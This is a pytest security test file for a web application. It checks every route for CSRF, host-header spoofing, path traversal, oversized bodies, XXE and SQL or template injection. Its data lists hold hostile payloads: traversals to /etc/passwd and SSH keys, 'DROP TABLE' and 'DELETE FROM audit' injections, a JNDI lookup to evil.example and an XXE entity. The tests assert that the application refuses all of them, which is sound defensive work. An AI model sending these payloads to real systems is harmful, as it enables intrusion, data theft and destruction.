"""Attacks on every route that the application has: a route that is added tomorrow is attacked as well."""

import asyncio
import itertools
import shutil
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from record_speed import fill
from starlette.testclient import TestClient

from dateline.record import limits, open_record
from dateline.views.web.app import make_app
from dateline.views.web.guard import LARGEST, SAFE, Guard
from dateline.views.web.permissions import NO_TOKEN
from web.desks import client_of, desk_of, entered

# What a form would send; a field of another name gets "1".
FIELDS = {"act": "comment", "why": "as seen", "to": "fr", "back": "/", "name": "a search", "query": "type=strike"}
FOREIGN = (
    {"sec-fetch-site": "cross-site"},
    {"sec-fetch-site": "same-site"},
    {"sec-fetch-site": "same-origin", "origin": "http://evil.example"},
    {"sec-fetch-site": "none", "origin": "null"},
    {"sec-fetch-site": "same-origin", "origin": "http://localhost:81"},
)


def routes(app: Guard) -> list[tuple[str, str, list[str]]]:
    """Method, path and fields of a form, of all that the application serves."""
    found = []
    for included in app.app.routes:
        for route in included.original_router.routes:
            fields = [field.name for field in route.dependant.body_params]
            found += [(method, route.path, fields) for method in sorted(route.methods)]
    return found


def plausible(path: str, key: str = "1") -> str:
    """A path with something in its gaps."""
    return path.replace("{name:path}", key).replace("{key}", key).replace("{secret}", key)


@pytest.fixture
def open_desk(own: Path) -> tuple[TestClient, Guard, Path]:
    desk = desk_of(own)
    app = make_app(desk)
    return TestClient(app, base_url="http://localhost", headers={"sec-fetch-site": "same-origin"}), app, own


def state(record: Path) -> str:
    """A hash of all that is kept beside and in a record: what was decided, searches, sessions."""
    told = sha256()
    with open_record(record) as opened:
        told.update(repr(opened.base.execute("SELECT * FROM audit ORDER BY n").fetchall()).encode())
    for path in sorted(record.parent.glob(f"{record.name}.*")):
        if not path.name.endswith(("-wal", "-shm")):
            told.update(path.name.encode() + path.read_bytes())
    return told.hexdigest()


def test_no_foreign_page_changes_anything_by_any_route(open_desk: tuple[TestClient, Guard, Path]) -> None:
    client, app, record = open_desk
    csrf = entered(client)
    changing = [(method, path, fields) for method, path, fields in routes(app) if method not in SAFE]
    assert len(changing) > 10
    before = state(record)
    for method, path, fields in changing:
        sent = {name: FIELDS.get(name, "1") for name in fields} | {"csrf": csrf}
        for headers in FOREIGN:
            answer = client.request(method, plausible(path), data=sent, headers=headers, follow_redirects=False)
            assert answer.status_code == 403, (method, path, headers)
            assert "set-cookie" not in answer.headers
        if (method, path) in NO_TOKEN:
            continue
        for wrong in ({}, {"csrf": ""}, {"csrf": "0" * len(csrf)}, {"csrf": csrf[:-1]}, {"csrf": csrf + "x"}):
            answer = client.request(method, plausible(path), data=sent | {"csrf": None} | wrong, follow_redirects=False)
            assert answer.status_code == 403, (method, path, wrong)
        # The token counts in the body and the header, nowhere else: an address is copied, logged and sent on.
        unsaid = {name: value for name, value in sent.items() if name != "csrf"}
        answer = client.request(method, plausible(path), params={"csrf": csrf}, data=unsaid, follow_redirects=False)
        assert answer.status_code == 403, (method, path)
    assert state(record) == before


def test_the_same_with_the_token_is_let_through(open_desk: tuple[TestClient, Guard, Path]) -> None:
    client, app, _ = open_desk
    csrf = entered(client)
    for method, path, fields in routes(app):
        if method in SAFE or path in ("/logout", "/login", "/paste"):
            continue
        sent = {name: FIELDS.get(name, "1") for name in fields} | {"csrf": csrf}
        answer = client.request(method, plausible(path), data=sent, follow_redirects=False)
        assert answer.status_code in (200, 303, 400, 404, 422), (method, path, answer.text)


class Clock:
    """What the limits look at: it stands still until `step` says how far it goes at each look."""

    def __init__(self) -> None:
        self.at, self.step = 0.0, 0.0

    def monotonic(self) -> float:
        self.at += self.step
        return self.at


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    made = Clock()
    monkeypatch.setattr(limits, "time", made)
    return made


HOSTS = (
    "evil.example", "evil.example:80", "localhost.evil.example", "evil.example#localhost", "localhost@evil.example",
    "localhost, evil.example", "127.0.0.1.nip.example", "[::ffff:203.0.113.1]", "0", "127.1", "2130706433", "", " ",
    "localhost\tevil", "local\x00host", "//localhost", "localhost/evil", "a" * 300,
)  # fmt: skip


def test_no_route_answers_under_another_name(open_desk: tuple[TestClient, Guard, Path]) -> None:
    _, app, _ = open_desk
    for method, path, _ in routes(app):
        for host in HOSTS:
            status, headers, body = ask(app, method, plausible(path), headers=[(b"host", host.encode())])
            assert status == 421, (method, path, host)
            assert b"location" not in headers and b"evil" not in body


def test_a_name_said_twice_is_refused(open_desk: tuple[TestClient, Guard, Path]) -> None:
    _, app, _ = open_desk
    for pair in itertools.permutations((b"localhost", b"evil.example")):
        status, _, body = ask(app, "GET", "/login", headers=[(b"host", host) for host in pair])
        assert status == 400 and b"evil" not in body
    said = [(b"host", b"localhost"), (b"content-length", b"0"), (b"content-length", b"9")]
    assert ask(app, "POST", "/language", headers=said)[0] == 400


@pytest.mark.parametrize("name", ["x-forwarded-host", "x-host", "forwarded", "x-original-url", "x-rewrite-url"])
def test_what_a_proxy_might_say_is_not_believed(open_desk: tuple[TestClient, Guard, Path], name: str) -> None:
    client, app, _ = open_desk
    for method, path, _ in routes(app):
        if method == "GET":
            asked = {name: "host=evil.example;proto=https" if name == "forwarded" else "evil.example"}
            answer = client.get(plausible(path), headers=asked, follow_redirects=False)
            assert "evil.example" not in answer.text + str(answer.headers), path


TRAVERSALS = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd", "..\\..\\..\\etc\\passwd", "..%5c..%5cetc%5cpasswd", "/etc/passwd", "//etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd", "..%c0%af..%c0%afetc%c0%afpasswd", "desk.css%00.png", "desk.css/../../app.py",
    "./desk.css", "desk.css/", "DESK.CSS", "leaflet/../../../../__init__.py", "C:\\Windows\\win.ini", "\\\\host\\share",
    "..;/..;/etc/passwd", "%2e%2e%2f" * 8 + "etc/passwd", "~root/.ssh/id_rsa", "con", "a" * 3000,
)  # fmt: skip


def test_no_path_leads_out(open_desk: tuple[TestClient, Guard, Path]) -> None:
    _, app, record = open_desk
    entered(client_of(desk_of(record)))
    asked = 0
    for method, path, _ in routes(app):
        if "{" not in path or method not in SAFE:
            continue
        for way in TRAVERSALS:
            status, headers, body = ask(app, method, plausible(path, way))
            assert 400 <= status < 500, (path, way, status, headers)
            assert b"root:" not in body and b"import " not in body and b"[extensions]" not in body
            assert str(record.parent).encode() not in body
            asked += 1
    assert asked >= 4 * len(TRAVERSALS)


def test_a_body_without_end_is_not_taken_in(open_desk: tuple[TestClient, Guard, Path]) -> None:
    client, app, _ = open_desk
    entered(client)
    cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items()).encode()
    for method, path, _ in routes(app):
        if method in SAFE:
            continue
        large = client.request(method, plausible(path), content=b"a" * (LARGEST + 1))
        assert large.status_code == 413, path
        for kind in (b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x", b"application/json"):
            taken = itertools.count()
            headers = [(b"cookie", cookie), (b"content-type", kind), (b"transfer-encoding", b"chunked")]
            status, _, _ = ask(app, method, plausible(path), headers=headers, endless=taken)
            assert status is None or 300 <= status < 500, (path, kind, status)
            assert next(taken) <= LARGEST // 16_384 + 3, path


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(20_000))),
        ("application/x-www-form-urlencoded", b"a=%ff%fe%00&csrf=\xff"),
        ("multipart/form-data; boundary=x", b'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n' * 3000),
        (
            "multipart/form-data; boundary=x",
            b'--x\r\ncontent-disposition: form-data; name="a"; filename="../x"\r\n\r\n',
        ),
        ("multipart/form-data", b"--x"),
        ("multipart/form-data; boundary=" + "x" * 5000, b"--x"),
        ("application/json", b"[" * 100_000),
        ("text/plain", b"csrf=1"),
        ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
)
def test_odd_bodies_are_refused(open_desk: tuple[TestClient, Guard, Path], kind: str, body: bytes) -> None:
    client, app, record = open_desk
    entered(client)
    before = state(record)
    for method, path, _ in routes(app):
        if method not in SAFE and path != "/language":  # it has a default for each of its fields
            answer = client.request(
                method, plausible(path), content=body, headers={"content-type": kind}, follow_redirects=False
            )
            assert 400 <= answer.status_code < 500 or path == "/paste", (path, answer.status_code)
            assert answer.status_code < 500 and "root:" not in answer.text
    assert state(record) == before


INJECTIONS = (
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"",
    "1; DROP TABLE incident", "'; DELETE FROM audit; --", "') UNION SELECT 1,2--",
    "' UNION SELECT sql FROM sqlite_master--", "1' AND randomblob(500000000)--", "' AND 1=CAST((SELECT 1) AS INT)--",
    "'||(SELECT hex(randomblob(9)))||'", "%' AND 1=0 UNION SELECT name FROM person --", "\\'; SELECT pg_sleep(9)--",
    "1 AND (SELECT 1 FROM pg_sleep(9))", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "{% raw %}", "#{7*7}", "<%= 7*7 %>",
    "%s%n%x", "(SELECT load_extension('x'))", "ATTACH DATABASE '/tmp/x' AS x", "\x00' OR 1", "text MATCH 'a*'",
    "NEAR(a b",
    '"unclosed', "a AND", "* OR *", "col:val", "(((((", "-", "^a", "a" * 400,
    "a " * 200, "NOT " * 80 + "a", "(" * 90 + "a" + ")" * 90,
)  # fmt: skip
NAMES = ("type", "means", "status", "from", "to", "in", "near", "bbox", "actor", "source", "side", "outlet", "text",
    "lang", "background", "changed_since", "id", "sort", "after", "limit", "zoom", "window", "what", "other",
    "q")  # fmt: skip


FEWER = ("text", "in", "source", "id", "window", "zoom", "what", "after")
FAULTS = ("sqlerror", "traceback", "no such column", "no such table", 'near "', "syntax error", ">49<")


@pytest.mark.parametrize(
    ("path", "names"), [("/incidents.json", NAMES), ("/map.json", FEWER), ("/api/v1/stats", FEWER), ("/review", FEWER)]
)
def test_words_are_never_code(
    open_desk: tuple[TestClient, Guard, Path], clock: Clock, path: str, names: tuple[str, ...]
) -> None:
    client, _, record = open_desk
    entered(client)
    with open_record(record) as opened:
        tables = opened.base.execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall()
        rows = opened.base.execute("SELECT count(*) FROM incident").get
    for name, said in itertools.product(names, INJECTIONS):
        answer = client.get(path, params={name: said})
        assert answer.status_code in (200, 400, 404), (name, said, answer.text[:300])
        assert not any(told in answer.text.lower() for told in FAULTS), (name, said)
        if path == "/incidents.json" and answer.status_code == 200 and "OR" in said:
            # A condition of its own would let all through; `id` chooses what is shown beside the list.
            assert name == "id" or answer.json()["total"] < rows, (name, said)
    with open_record(record) as opened:
        assert opened.base.execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall() == tables
        assert opened.base.execute("SELECT count(*) FROM incident").get == rows


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record of as many incidents as make each of the worst questions some ten thousand steps of SQLite's machine."""
    path = tmp_path_factory.mktemp("large") / "large.sqlite"
    fill(path, 4000)
    return path


WORST = (
    "/incidents?near=0,0,20000&sort=size", "/incidents.json?bbox=-180,-90,180,90&sort=sources&limit=1000",
    "/incidents.csv?text=drones* OR region* OR night* OR said*&limit=1000",
    "/incidents.geojson?source=source&actor=groupe&limit=1000",
    "/map.json?zoom=18&window=-180,-90,180,90",
    "/map.json?zoom=6&window=-180,-90,180,90&text=drones* OR region* OR night*",
    "/api/v1/clusters?zoom=18", "/api/v1/timeline?source=numéro", "/api/v1/stats?bbox=-180,-90,180,90",
    "/review?what=unsure", "/review?what=unplaced",
)  # fmt: skip


@pytest.mark.parametrize("address", WORST)
def test_the_worst_questions_are_stopped(large: Path, tmp_path: Path, clock: Clock, address: str) -> None:
    """On a clock that runs fast a question is stopped; the same connection then answers the next one."""
    client = client_of(desk_of(Path(shutil.copy(large, tmp_path / "r.sqlite"))))
    entered(client)
    clock.step = 30.0
    stopped = client.get(address)
    assert stopped.status_code == 503, (address, stopped.text[:200])
    assert "narrow" in stopped.text
    clock.step = 0.0
    assert client.get("/api/v1/me").status_code == 200
    answer = client.get(address)
    assert answer.status_code == 200 and len(answer.content) < 4_000_000


def test_no_answer_has_more_than_a_thousand_rows(large: Path, tmp_path: Path, clock: Clock) -> None:
    client = client_of(desk_of(Path(shutil.copy(large, tmp_path / "r.sqlite"))))
    assert client.get("/incidents.json?limit=1001").status_code == 400
    assert len(client.get("/incidents.json?limit=1000").json()["incidents"]) == 1000
    found = client.get("/map.json?zoom=18&window=-180,-85,180,85").json()
    assert len(found["clusters"]) <= 5000 and len(found["rings"]) <= 1000


def ask(
    app: Guard,
    method: str,
    path: str,
    *,
    headers: list[tuple[bytes, bytes]] | None = None,
    endless: Any = None,
) -> tuple[int | None, dict[bytes, bytes], bytes]:
    """Status, headers and body of an answer, asked as no client would: the path and headers go in as they are.

    `endless` counts the pieces of a body without end that are taken in.
    """
    said: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        if endless is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        if next(endless) > 10_000:
            raise AssertionError("all of it is taken in")
        return {"type": "http.request", "body": b"a" * 16_384, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        said.append(message)

    from urllib.parse import unquote

    given = list(headers or ())
    if not any(name == b"host" for name, _ in given):
        given.append((b"host", b"localhost"))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": unquote(path.split("?")[0]),
        "raw_path": path.encode(),
        "query_string": b"",
        "headers": given,
        "client": ("127.0.0.1", 9),
        "server": ("127.0.0.1", 80),
        "root_path": "",
    }
    try:
        asyncio.run(app(scope, receive, send))
    except Exception as error:  # a reader that hangs up is told nothing
        if type(error).__name__ != "ClientDisconnect":
            raise
    start = next((m for m in said if m["type"] == "http.response.start"), None)
    body = b"".join(m.get("body", b"") for m in said if m["type"] == "http.response.body")
    return (start["status"] if start else None), dict(start["headers"]) if start else {}, body
